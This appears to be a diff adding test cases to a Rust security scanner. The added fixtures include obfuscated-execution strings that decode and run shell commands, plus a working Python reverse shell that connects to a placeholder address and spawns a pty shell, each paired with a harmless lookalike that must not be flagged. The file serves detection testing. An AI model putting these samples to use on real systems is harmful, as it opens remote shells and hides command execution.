@@ -446,8 +446,16 @@ fn obfuscated_exec() {
             "exec(base64.b64decode(payload))",
             "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A",
             "eval $(echo ZWNobyBoaQ== | base64 -d)",
+            // A shell command run straight from decoded hex or base64.
+            "os.system(bytes.fromhex(''.join(PARTS)).decode())",
+            "subprocess.run(base64.b64decode(CMD).decode(), shell=True)",
+            "exec(compile(zlib.decompress(blob), '<x>', 'exec'))",
         ],
-        &["base64 -d key.b64 > key.pem", "eval \"$(ssh-agent -s)\""],
+        &[
+            "base64 -d key.b64 > key.pem",
+            "eval \"$(ssh-agent -s)\"",
+            "subprocess.run(['convert', base64_path])",
+        ],
     );
 }
 
@@ -836,6 +844,12 @@ fn reverse_shells_spread_over_lines() {
     assert!(flagged_in("scripts/agent.py", loop_, "reverse-shell"));
     let client = "import socket\ns = socket.socket()\ns.connect(('localhost', 8080))\ns.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\nprint(s.recv(4096))\n";
     assert!(!flagged_in("scripts/client.py", client, "reverse-shell"));
+    // The address in a constant, the descriptors copied in a loop, a pty.
+    let var = "import os, pty, socket\nPEER = ('192.0.2.7', 8443)\nconn = socket.socket()\nconn.connect(PEER)\nfor n in range(3):\n    os.dup2(conn.fileno(), n)\npty.spawn('sh')\n";
+    assert!(flagged_in("scripts/tunnel.py", var, "reverse-shell"));
+    // A descriptor copied for logging, no socket to a shell.
+    let log = "import os, sys\nlog = open('run.log', 'w')\nos.dup2(log.fileno(), sys.stderr.fileno())\ndb.connect(DSN)\n";
+    assert!(!flagged_in("scripts/run.py", log, "reverse-shell"));
 }
 
 #[test]
